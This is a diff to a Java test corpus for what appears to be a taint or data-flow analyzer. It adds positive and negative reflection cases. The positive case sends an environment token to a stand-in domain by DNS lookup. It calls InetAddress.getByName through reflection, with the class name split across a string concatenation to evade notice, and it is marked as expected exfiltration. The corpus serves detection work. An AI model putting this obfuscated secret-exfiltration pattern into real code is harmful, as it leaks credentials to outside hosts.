@@ -680,9 +680,31 @@ final class FlowCorpus {
                     }
                 }
                 """);
+        inline("reflection: a model sink called by reflection, its class name a constant", "reflection (library sink)", """
+                package PKG;
+                class A {
+                    static final String RESOLVER = "java.net." + "InetAddress";
+                    void f() throws Exception {
+                        String host = System.getenv("TOKEN") + ".x.example";
+                        Class.forName(RESOLVER).getMethod("getByName", String.class).invoke(null, host); // expect: EXFIL, from=5
+                    }
+                }
+                """);
     }
 
     private void negatives() {
+        inline("reflection: a model sink called by reflection with clean data, the secret to another library method",
+                "negative: reflection (library sink, clean argument)", """
+                package PKG;
+                class A {
+                    void f() throws Exception {
+                        String token = System.getenv("TOKEN");
+                        Class.forName("java.net.InetAddress").getMethod("getByName", String.class).invoke(null, "public.example");
+                        Object trimmed = String.class.getMethod("trim").invoke(token);
+                        System.out.println(trimmed);
+                    }
+                }
+                """);
         viaSend("reflection: constant name of another, clean method", "negative: reflection (another method)", false, """
                 package PKG;
                 import java.lang.reflect.Method;
